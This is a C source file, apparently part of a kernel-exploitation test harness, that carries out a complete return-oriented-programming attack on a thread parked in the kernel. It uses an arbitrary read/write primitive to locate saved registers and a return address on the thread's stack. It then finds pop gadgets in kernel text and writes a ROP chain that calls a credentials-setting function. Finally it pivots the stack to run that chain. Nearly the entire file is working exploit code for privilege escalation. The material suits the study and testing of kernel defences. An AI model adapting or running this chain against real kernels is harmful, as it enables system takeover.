/* A thread waits in the kernel. Where its stack says that it goes on is changed. */
#include "attack.h"

enum { CPU_OF_WRITER, CPU_OF_PARKED, NR_CPUS };
enum { STAGE_KNOWN = 1, STAGE_BACK };
enum { STACK_BYTES = 16 * 1024, PAGE_OFFSETS = 2 * BW_PAGE_SIZE, FRAME_MAX = 1024 };
enum { EXTRA_MAX = 2, CHAIN_MAX = 16 };
enum { OPCODE_CALL = 0xe8, CALL_BYTES = 5, WORD = sizeof(uint64_t) };
#define MARK 0x1122334455667788ul

static attack_stage stage;
static struct bw_leak parked;

static uint64_t load(uint64_t address) { return (uint64_t)bw_vuln_read(address); }

static void store(uint64_t address, uint64_t value)
{
	attack_check("vuln_write", bw_vuln_write(address, value));
}

static void park(void *unused)
{
	(void)unused;
	attack_leak(&parked);
	attack_tell(&stage, STAGE_KNOWN);
	/* to the end of its own stack, which nothing has ever reached; the result is anything */
	(void)bw_vuln_write_parked(parked.stack_top - STACK_BYTES + WORD, MARK);
	attack_tell(&stage, STAGE_BACK);
}

/* The registers that the call saved: it is known by its arguments. 0: not found. */
static uint64_t find_regs(void)
{
	uint64_t target = parked.stack_top - STACK_BYTES + WORD;

	for (uint64_t at = parked.stack_top - sizeof(struct bw_frame);
	     at > parked.stack_top - PAGE_OFFSETS; at -= WORD) {
		if (load(at + offsetof(struct bw_frame, rsi)) == MARK &&
		    load(at + offsetof(struct bw_frame, rdi)) == target) {
			return at;
		}
	}
	return 0;
}

static bool is_return_address(uint64_t value)
{
	return value > parked.image_base + WORD && value < parked.image_text_end &&
	       (load(value - WORD) >> (WORD - CALL_BYTES) * 8 & 0xff) == OPCODE_CALL;
}

/*
 * Below the registers are the address where the entry code goes on, what the call's own function
 * keeps, and the address where that goes on. The latter's place; 0: not found.
 */
static uint64_t find_return(uint64_t regs)
{
	for (uint64_t at = regs - 3 * WORD; at > regs - FRAME_MAX; at -= WORD) {
		if (is_return_address(load(at))) {
			return at;
		}
	}
	return 0;
}

/* One that pops little besides. */
static struct gadget find_pop(struct gadget_text *text, enum gadget_register reg)
{
	struct gadget gadget = { .address = text->base - 1 };

	do {
		if (!gadget_find(text, gadget.address + 1, reg, &gadget)) {
			attack_skip("the kernel's text has no gadget that short");
		}
	} while (gadget.nr_extra > EXTRA_MAX);
	return gadget;
}

struct chain {
	uint64_t words[CHAIN_MAX];
	size_t nr;
};

static void add(struct chain *chain, uint64_t word) { chain->words[chain->nr++] = word; }

static void add_load(struct chain *chain, const struct gadget *gadget, uint64_t value)
{
	add(chain, gadget->address);
	add(chain, value);
	chain->nr += gadget->nr_extra;
}

/* Ends where the entry code goes on, whose address is below the registers. */
static void make_chain(struct gadget_text *text, const struct gadget *pop_rsp, uint64_t regs,
		       struct chain *chain)
{
	const struct gadget pop_rdi = find_pop(text, GADGET_RDI);
	const struct gadget pop_rsi = find_pop(text, GADGET_RSI);
	size_t nr_popped = 4 + pop_rsi.nr_extra + pop_rdi.nr_extra;

	/* what the gadget that leads here pops besides; and a function wants RSP + 8 aligned to 16
	 */
	*chain = (struct chain){ .nr = pop_rsp->nr_extra };
	if ((chain->nr + nr_popped) % 2 != 0) {
		add(chain, pop_rsp->at_return);
	}
	add_load(chain, &pop_rsi, 0);
	add_load(chain, &pop_rdi, parked.process);
	add(chain, parked.credentials_set);
	add_load(chain, pop_rsp, regs - (1 + pop_rsp->nr_extra) * WORD);
}

/*
 * Over the return address goes a gadget that takes the word behind it for the stack: the chain,
 * further down.
 */
static void write_chain(uint64_t at, uint64_t regs)
{
	uint64_t place = parked.stack_top - STACK_BYTES / 2;
	struct gadget_text text;
	struct gadget pop_rsp;
	struct chain chain;

	gadget_text_open(&text, &parked);
	pop_rsp = find_pop(&text, GADGET_RSP);
	make_chain(&text, &pop_rsp, regs, &chain);
	for (size_t i = 0; i < chain.nr; i++) {
		store(place + i * WORD, chain.words[i]);
	}
	store(at + WORD, place);
	attack_say("the return address at 0x%lx was 0x%lx, and is 0x%lx from now on", at, load(at),
		   pop_rsp.address);
	store(at, pop_rsp.address);
}

int main(void)
{
	struct bw_leak leak;
	uint64_t regs, at = 0;

	attack_begin(&leak, NR_CPUS, CPU_OF_WRITER);
	attack_thread(CPU_OF_PARKED, park, NULL);
	attack_await(&stage, STAGE_KNOWN, AWAIT_YIELD);
	attack_await_parked(1);
	regs = find_regs();
	at = regs != 0 ? find_return(regs) : 0;
	if (at == 0) {
		bw_vuln_unpark(false);
		attack_skip("the return address is not where it should be");
	}
	write_chain(at, regs);
	bw_vuln_unpark(false);
	attack_await(&stage, STAGE_BACK, AWAIT_YIELD);
	return attack_finish();
}
